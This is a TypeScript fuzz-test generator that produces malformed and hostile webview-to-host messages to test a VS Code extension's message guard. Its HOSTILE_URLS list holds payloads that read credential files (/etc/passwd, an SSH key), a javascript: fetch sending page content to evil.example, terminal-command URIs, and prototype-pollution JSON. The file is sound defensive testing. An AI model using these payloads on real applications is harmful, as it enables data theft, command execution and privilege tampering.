// The fuzz test's message generator (issue 12 §3): a seeded, reproducible stream of malformed and hostile
// webview → host messages, by category, for test/e2e/fuzz.test.ts.
//
// Each message is JSON text, parsed in the webview (so "__proto__" and "constructor" arrive as own keys, as a
// hostile page would send them) after two markers are expanded there, to keep what crosses Playwright small:
//   - a string equal to "\u0001BIG:<n>" becomes a string of n characters (1 MB strings);
//   - an object {"\u0001DEEP": n, "shape": "array"|"object"} becomes a value nested n levels deep, built in a loop
//     (a recursive builder would overflow the stack long before 50,000).
// Every category but `outOfOrder` must be refused by the host's guard; the generator checks that itself
// (checkWebviewMessage), so a "hostile" message that happens to be valid cannot hide in the stream.
import { seededRandom } from '../../emulators/graph/faults';
import { checkWebviewMessage } from '../../src/protocol/guards';
import { COPY_TARGETS, RUN_TARGETS } from '../../src/wizard/state';
import { FIELD_NAMES } from '../../src/wizard/fields';
import { STEP_ORDER } from '../../src/wizard/steps';

export type Category =
  | 'wrongTypes'
  | 'missingFields'
  | 'extraFields'
  | 'unknownTypes'
  | 'hugeStrings'
  | 'deepNesting'
  | 'prototypeKeys'
  | 'outOfOrder'
  | 'hostileLinks'
  | 'secretReads'
  | 'controlChars'
  | 'mutations';

export interface FuzzMessage {
  category: Category;
  /** JSON text, with the markers above. */
  json: string;
}

/** Messages per category: ≥ 10,000 in all. The heavy ones are few (each 1 MB string crosses three processes). */
export const PLAN: Readonly<Record<Category, number>> = {
  wrongTypes: 1500,
  missingFields: 1000,
  extraFields: 1000,
  unknownTypes: 1500,
  hugeStrings: 24,
  deepNesting: 6,
  prototypeKeys: 1000,
  outOfOrder: 1000,
  hostileLinks: 1000,
  secretReads: 1000,
  controlChars: 500,
  mutations: 500,
};

export const BIG = (n: number): string => `\u0001BIG:${n}`;
export const DEEP = (n: number, shape: 'array' | 'object'): Record<string, unknown> => ({ '\u0001DEEP': n, shape });
export const ONE_MB = 1024 * 1024;
export const DEEP_LEVELS = 50_000;

/**
 * Source of `(text) => value`: JSON.parse plus the markers' expansion, iterative. A string (not a function) so the
 * same code runs in the page (tsx's keepNames would wrap named inner functions in __name, missing there) and here.
 */
export const EXPAND_SRC = `(text) => {
  const big = /^\\u0001BIG:(\\d+)$/;
  const make = (v) => {
    if (typeof v === 'string') { const m = big.exec(v); return m ? 'A'.repeat(Number(m[1])) : v; }
    if (v && typeof v === 'object' && !Array.isArray(v) && Object.prototype.hasOwnProperty.call(v, '\\u0001DEEP')) {
      let out = v.shape === 'array' ? [] : {};
      for (let i = 1; i < v['\\u0001DEEP']; i++) out = v.shape === 'array' ? [out] : { a: out };
      return out;
    }
    return v;
  };
  const root = { v: JSON.parse(text) };
  const stack = [root];
  while (stack.length) {
    const o = stack.pop();
    for (const k of Object.keys(o)) {
      const before = o[k];
      const after = make(before);
      if (after !== before) Object.defineProperty(o, k, { value: after, enumerable: true, writable: true, configurable: true });
      else if (before && typeof before === 'object' && stack.length < 10000) stack.push(before);
    }
  }
  return root.v;
}`;

export const expand = new Function(`return ${EXPAND_SRC}`)() as (text: string) => unknown;

const EVENT_TYPES = ['next', 'back', 'goto', 'edit', 'apply', 'cancel', 'restart', 'copy', 'openUrl', 'runUserFlow', 'signIn', 'fix', 'openPolicy'];
const MESSAGE_TYPES = ['ready', 'event', 'storeSecret', 'clearSecret'];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isPrototypeOf'];
const HOSTILE_URLS = [
  'command:workbench.action.terminal.new',
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D',
  'command:itsme.signOut',
  'file:///etc/passwd',
  'file:///root/.ssh/id_rsa',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:fetch("https://evil.example/?"+document.body.innerHTML)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'vscode://itsme-b2c.itsme-b2c/steal',
  'vscode-webview://x/index.html',
  'https://evil.example/phish',
  'http://127.0.0.1:22/',
  '//evil.example',
  '\u0000javascript:alert(1)',
  ' javascript:alert(1)',
];
/** The hostile URLs dressed as the named targets the guard accepts (links are named, never URLs). */
const LINK_DISGUISES = (u: string): string[] => [u, `manual:${u}`, `portal:${u}`, `guide ${u}`, `onboarding\n${u}`, `${u}#guide`];
const SECRET_WORDS = ['secret', 'clientSecret', 'itsmeSecret', 'getSecret', 'readSecret', 'revealSecret', 'showSecret', 'secretValue', 'password', 'token', 'credentials'];
const CONTROL = ['\u0000', '\u0007', '\b', '\u001b[2J', '\u202e', '\u200b', '\ufeff', '\ud800', '\udfff', '\r\n', '\u2028', '%00', '\\u0000'];

/** A message already written as JSON text (own "__proto__" keys survive only that way). */
class Raw {
  constructor(readonly text: string) {}
}
const toJson = (v: unknown): string => (v instanceof Raw ? v.text : JSON.stringify(v));

export function generate(seed: number, plan: Readonly<Record<Category, number>> = PLAN): FuzzMessage[] {
  const rnd = seededRandom(seed);
  const int = (n: number): number => Math.floor(rnd() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  const word = (): string => Array.from({ length: 1 + int(12) }, () => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_-$.'[int(56)]).join('');
  const junk = (): unknown => pick<() => unknown>([() => null, () => int(1e9) - 5e8, () => rnd(), () => true, () => false, () => [], () => ({}), () => word(), () => [word(), int(9)], () => ({ [word()]: word() }), () => '', () => -0, () => 1e308])();
  const notString = (): unknown => pick<() => unknown>([() => null, () => int(100), () => true, () => [], () => ({}), () => [pick(MESSAGE_TYPES)], () => ({ toString: 'ready' })])();
  const validEvent = (): Record<string, unknown> => {
    switch (pick(EVENT_TYPES)) {
      case 'goto': return { type: 'goto', step: pick(STEP_ORDER) };
      case 'edit': return { type: 'edit', field: pick(FIELD_NAMES), value: word() };
      case 'copy': return { type: 'copy', which: pick(COPY_TARGETS) };
      case 'openUrl': return { type: 'openUrl', which: pick(['guide', 'onboarding', 'mailItsme']) };
      case 'runUserFlow': return { type: 'runUserFlow', target: pick(RUN_TARGETS) };
      case 'openPolicy': return { type: 'openPolicy', index: int(16) };
      default: return { type: pick(['next', 'back', 'apply', 'cancel', 'restart', 'signIn', 'fix']) };
    }
  };
  const validMessage = (): Record<string, unknown> => pick<() => Record<string, unknown>>([
    () => ({ type: 'ready' }),
    () => ({ type: 'clearSecret' }),
    () => ({ type: 'storeSecret', value: word() }),
    () => ({ type: 'event', event: validEvent() }),
  ])();

  const makers: Record<Category, () => unknown> = {
    wrongTypes: () => pick<() => unknown>([
      () => junk(),
      () => ({ type: notString() }),
      () => ({ type: 'event', event: junk() }),
      () => ({ type: 'event', event: { type: notString() } }),
      () => ({ type: 'event', event: { type: 'goto', step: notString() } }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(FIELD_NAMES), value: pick([null, 42, [], {}, [word()], { value: word() }]) } }),
      () => ({ type: 'event', event: { type: 'edit', field: notString(), value: word() } }),
      () => ({ type: 'event', event: { type: 'openPolicy', index: pick(['0', -1, 1.5, 16, 1e9, null, [0], true, -0.5, 2 ** 53]) } }),
      () => ({ type: 'event', event: { type: 'copy', which: notString() } }),
      () => ({ type: 'event', event: { type: 'runUserFlow', target: notString() } }),
      () => ({ type: 'storeSecret', value: notString() }),
      () => ({ type: 'storeSecret', value: word(), next: pick([false, 1, 'true', null, {}]) }),
      () => [{ type: 'ready' }],
      () => [pick(MESSAGE_TYPES), validEvent()],
    ])(),
    missingFields: () => pick<() => unknown>([
      () => ({}),
      () => ({ event: validEvent() }),
      () => ({ type: 'event' }),
      () => ({ type: 'storeSecret' }),
      () => ({ type: 'storeSecret', next: true }),
      () => ({ type: 'event', event: {} }),
      () => ({ type: 'event', event: { step: 'review' } }),
      () => ({ type: 'event', event: { type: 'goto' } }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(FIELD_NAMES) } }),
      () => ({ type: 'event', event: { type: 'edit', value: word() } }),
      () => ({ type: 'event', event: { type: 'copy' } }),
      () => ({ type: 'event', event: { type: 'openUrl' } }),
      () => ({ type: 'event', event: { type: 'openPolicy' } }),
    ])(),
    extraFields: () => {
      const m = validMessage();
      if (m['type'] === 'event' && rnd() < 0.6) (m['event'] as Record<string, unknown>)[pick([word(), 'url', 'href', 'secret', 'requestId', 'force'])] = junk();
      else m[pick([word(), 'secret', 'event', 'value', 'next', 'id', 'url'].filter((k) => !(k in m)))] = junk();
      return m;
    },
    unknownTypes: () => pick<() => unknown>([
      () => ({ type: word() }),
      () => ({ type: pick(MESSAGE_TYPES).toUpperCase() }),
      () => ({ type: `${pick(MESSAGE_TYPES)} ` }),
      () => ({ type: pick(['init', 'state', 'command', 'openExternal', 'executeCommand', 'eval', 'exec', 'postMessage']), payload: word() }),
      () => ({ type: 'event', event: { type: word() } }),
      () => ({ type: 'event', event: { type: pick(EVENT_TYPES).toUpperCase() } }),
      () => ({ type: 'event', event: { type: pick(['planComputed', 'planFailed', 'applied', 'applyFailed', 'signedIn', 'signedOut', 'secretStored', 'tenantChecked', 'planChanged']), plan: {}, requestId: int(10) } }),
      () => ({ type: 'Ready' }),
      () => ({ type: 'é' + word() }),
    ])(),
    hugeStrings: () => pick<() => unknown>([
      () => ({ type: BIG(ONE_MB) }),
      () => ({ type: 'storeSecret', value: BIG(ONE_MB) }),
      () => ({ type: 'storeSecret', value: BIG(1025) }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(FIELD_NAMES), value: BIG(ONE_MB) } }),
      () => ({ type: 'event', event: { type: 'openUrl', which: BIG(ONE_MB) } }),
      () => ({ type: 'event', event: { type: 'goto', step: BIG(ONE_MB) } }),
      () => ({ type: 'ready', [word()]: BIG(ONE_MB) }),
      () => BIG(ONE_MB),
    ])(),
    deepNesting: () => pick<() => unknown>([
      () => DEEP(DEEP_LEVELS, 'array'),
      () => DEEP(DEEP_LEVELS, 'object'),
      () => ({ type: 'event', event: DEEP(DEEP_LEVELS, 'object') }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(FIELD_NAMES), value: DEEP(DEEP_LEVELS, 'array') } }),
      () => ({ type: 'storeSecret', value: DEEP(DEEP_LEVELS, 'array') }),
    ])(),
    // As JSON text: in an object literal `__proto__` would set the prototype; a hostile page sends it as a key.
    prototypeKeys: () => {
      const k = JSON.stringify(pick(PROTO_KEYS));
      const w = JSON.stringify(word());
      return new Raw(pick([
        `{"type":${k}}`,
        `{"__proto__":{"type":"ready"}}`,
        `{"type":"ready","__proto__":{"isAdmin":true}}`,
        `{"type":"event","event":{"type":"goto","step":"review","__proto__":{"polluted":true}}}`,
        `{"type":"event","event":{"__proto__":{"type":"apply"}}}`,
        `{"type":"event","__proto__":{"event":{"type":"apply"}}}`,
        `{"type":"event","event":{"type":${k}}}`,
        `{"type":"event","event":{"type":"edit","field":${k},"value":${w}}}`,
        `{"type":"event","event":{"type":"copy","which":${k}}}`,
        `{"type":"event","event":{"type":"goto","step":${k}}}`,
        `{"type":"event","event":{"type":"openUrl","which":${k}}}`,
        `{"type":"event","event":{"type":"runUserFlow","target":${k}}}`,
        `{"constructor":{"prototype":{"polluted":true}},"type":"ready"}`,
        `{"type":"storeSecret","value":${w},"__proto__":{"next":true}}`,
        `{"type":"event","event":{"type":"edit","field":"__proto__","value":{"polluted":true}}}`,
      ]));
    },
    // Valid messages at the wrong time: the wizard is on review with a plan; none of these may leave it, write,
    // open anything or start a plan (no goto: the goto storm is its own phase; no store/clear of the secret).
    outOfOrder: () => pick<() => unknown>([
      () => ({ type: 'event', event: { type: 'cancel' } }),
      () => ({ type: 'event', event: { type: 'runUserFlow' } }),
      () => ({ type: 'event', event: { type: 'runUserFlow', target: pick(RUN_TARGETS) } }),
      () => ({ type: 'event', event: { type: 'openPolicy', index: int(16) } }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(FIELD_NAMES), value: word() } }),
      () => ({ type: 'event', event: { type: 'openUrl', which: `manual:fuzz${word().replace(/[^A-Za-z]/g, '')}` } }),
      () => ({ type: 'event', event: { type: 'openUrl', which: `portal:fuzz${word().replace(/[^A-Za-z]/g, '')}` } }),
    ])(),
    hostileLinks: () => {
      const url = pick(HOSTILE_URLS);
      return pick<() => unknown>([
        () => ({ type: 'event', event: { type: 'openUrl', which: pick(LINK_DISGUISES(url)) } }),
        () => ({ type: 'event', event: { type: 'openUrl', which: 'guide', url } }),
        () => ({ type: 'event', event: { type: 'openUrl', url } }),
        () => ({ type: 'event', event: { type: 'runUserFlow', target: url } }),
        () => ({ type: 'event', event: { type: 'runUserFlow', target: 'jwt', url } }),
        () => ({ type: 'event', event: { type: 'copy', which: url } }),
        () => ({ type: 'openExternal', url }),
        () => ({ type: 'command', command: url }),
        () => ({ type: 'event', event: { type: 'openPolicy', index: 0, path: url } }),
      ])();
    },
    secretReads: () => pick<() => unknown>([
      () => ({ type: pick(SECRET_WORDS) }),
      () => ({ type: 'event', event: { type: pick(SECRET_WORDS) } }),
      () => ({ type: 'event', event: { type: 'copy', which: pick(SECRET_WORDS) } }),
      () => ({ type: 'event', event: { type: 'edit', field: pick(SECRET_WORDS), value: '' } }),
      () => ({ type: 'event', event: { type: 'openUrl', which: `manual:${pick(SECRET_WORDS)}?` } }),
      () => ({ type: 'storeSecret' }),
      () => ({ type: 'storeSecret', value: null, reveal: true }),
      () => ({ type: 'clearSecret', value: '' }),
      () => ({ type: 'clearSecret', echo: true }),
      () => ({ type: 'ready', secret: true }),
      () => ({ type: 'ready', include: ['secret'] }),
      () => ({ type: 'state', view: { secret: '' } }),
      () => ({ type: 'init', l10n: { secret: '${secret}' } }),
    ])(),
    controlChars: () => {
      const c = pick(CONTROL);
      return pick<() => unknown>([
        () => ({ type: `${pick(MESSAGE_TYPES)}${c}` }),
        () => ({ type: `${c}${pick(MESSAGE_TYPES)}` }),
        () => ({ type: 'event', event: { type: `goto${c}`, step: 'review' } }),
        () => ({ type: 'event', event: { type: 'goto', step: `review${c}` } }),
        () => ({ type: 'event', event: { type: 'openUrl', which: `guide${c}` } }),
        () => ({ type: 'event', event: { type: 'edit', field: `${pick(FIELD_NAMES)}${c}`, value: c } }),
        () => ({ [`type${c}`]: 'ready' }),
      ])();
    },
    // A valid message with one thing changed: a key renamed, a value swapped for junk, the nesting shifted.
    mutations: () => {
      const m = validMessage();
      const keys = Object.keys(m);
      switch (int(4)) {
        case 0: { const k = pick(keys); const v = m[k]; delete m[k]; m[`${k}${pick(['_', 's', ' ', 'X'])}`] = v; return m; }
        case 1: return { ...m, type: junk() };
        case 2: return m['type'] === 'event' ? { type: 'event', event: { ...(m['event'] as object), type: junk() } } : { type: 'event', event: m };
        default: return m['type'] === 'event' ? (m['event'] as object) : { type: 'event', event: { type: 'event', event: m } };
      }
    },
  };

  const out: FuzzMessage[] = [];
  for (const [category, count] of Object.entries(plan) as Array<[Category, number]>) {
    for (let i = 0; i < count; i++) {
      let value = makers[category]();
      // Valid by accident (mutations can land on another valid shape): draw again, a bounded number of times.
      for (let n = 0; category !== 'outOfOrder' && n < 20 && checkWebviewMessage(expand(toJson(value))).ok; n++) value = makers[category]();
      out.push({ category, json: toJson(value) });
    }
  }
  // Interleave the categories (seeded Fisher–Yates), so the host meets them mixed, as an attacker would send them.
  for (let i = out.length - 1; i > 0; i--) {
    const j = int(i + 1);
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

/** Counts per category. */
export function countByCategory(messages: readonly FuzzMessage[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const m of messages) counts[m.category] = (counts[m.category] ?? 0) + 1;
  return counts;
}
